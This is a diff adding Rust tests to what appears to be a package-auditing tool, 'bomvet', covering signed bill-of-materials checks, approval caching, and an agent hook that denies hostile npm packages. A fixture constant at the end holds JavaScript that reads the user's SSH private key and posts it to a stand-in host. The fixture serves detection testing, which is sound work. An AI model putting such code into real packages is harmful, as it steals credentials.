@@ -101,6 +101,44 @@ fn the_server_judges_explains_and_leaves_the_packages_words_out() {
     session.end();
 }
 
+/// An agent may write in its project: what it wrote there is no word on what is approved.
+#[test]
+fn alternatives_come_from_a_bill_of_materials_that_a_trusted_key_signed() {
+    let mut project = world();
+    project.npm(&[npm_lib("pad-left", "1.0.0", "module.exports = 1;\n")]);
+    let audit = |key: bool| {
+        if key {
+            assert!(project.bomvet().args(["key", "new"]).output().unwrap().status.success());
+        }
+        let mut command = project.bomvet();
+        command.args(["audit", ".", "--offline", "--lockfile-only", "--no-origin", "--db"]).arg(project.db());
+        if !key {
+            command.arg("--unsigned");
+        }
+        let run = command.output().unwrap();
+        assert_eq!(run.status.code(), Some(0), "{}", text(&run.stderr));
+    };
+    let ask = || {
+        let mut session = Session::start(&project);
+        let answer = session.call("alternatives", json!({"package": "left-pad"}));
+        let explained = session.call("explain", json!({"package": "pad-left"}));
+        session.end();
+        (answer, explained)
+    };
+    audit(false);
+    let (answer, explained) = ask();
+    assert!(answer["isError"] == true && answer.to_string().contains("no trusted key signed"), "{answer}");
+    assert!(explained.to_string().contains("no trusted key signed"), "{explained}");
+    audit(true);
+    let (answer, explained) = ask();
+    assert!(answer["isError"] != true && answer.to_string().contains("pad-left"), "{answer}");
+    assert!(explained.to_string().contains("signed by a trusted key"), "{explained}");
+    let bom = project.root().join("bomvet-audit/bom.cdx.json");
+    let changed = std::fs::read_to_string(&bom).unwrap().replace("\"approve\"", "\"approve \"");
+    std::fs::write(&bom, changed).unwrap();
+    assert_eq!(ask().0["isError"], true);
+}
+
 #[test]
 fn nothing_outside_of_the_project_is_read() {
     let project = skills();
@@ -197,6 +235,34 @@ fn the_hook_denies_asks_and_is_silent() {
     project.npm(&[npm_lib("fine", "1.0.0", STEAL)]);
     let (_, out, _) = hook(&project, &bash("npm ci"));
     assert!(out.contains("bomvet denies fine@1.0.0"), "{out}");
+}
+
+/// An approval is looked up, not made again: nothing is asked of the registry the second time.
+#[test]
+fn a_second_question_is_answered_from_what_is_kept() {
+    let project = world();
+    let good = npm_lib("fine", "1.0.0", "module.exports = 1;\n");
+    let server = Server::start(&[
+        ("/fine", vec![Answer::Ok(packument(&good))]),
+        ("/fine/-/fine-1.0.0.tgz", vec![Answer::Ok(good.archive("package"))]),
+    ]);
+    user_npmrc(&project, &format!("registry={}\n", server.url()));
+    let ask = |epoch: &str| {
+        let mut command = project.bomvet();
+        command.args(["guard", "hook", "--db"]).arg(project.db()).env("SOURCE_DATE_EPOCH", epoch);
+        let mut child =
+            command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
+        child.stdin.take().unwrap().write_all(bash("npm install fine@1.0.0").as_bytes()).unwrap();
+        let run = child.wait_with_output().unwrap();
+        assert_eq!((run.status.code(), text(&run.stdout)), (Some(0), String::new()), "{}", text(&run.stderr));
+        server.paths().len()
+    };
+    let epoch: i64 = crate::project::EPOCH.parse().unwrap();
+    let first = ask(&epoch.to_string());
+    assert!(first > 0);
+    assert_eq!(ask(&(epoch + 60).to_string()), first, "{:?}", server.paths());
+    // After a day advisories may say otherwise.
+    assert!(ask(&(epoch + 90_000).to_string()) > first);
 }
 
 const STEAL: &str = "const fs = require('fs');\nfetch('https://drop.invalid/in', {method: 'POST', body: fs.readFileSync(process.env.HOME + '/.ssh/id_rsa')});\n";
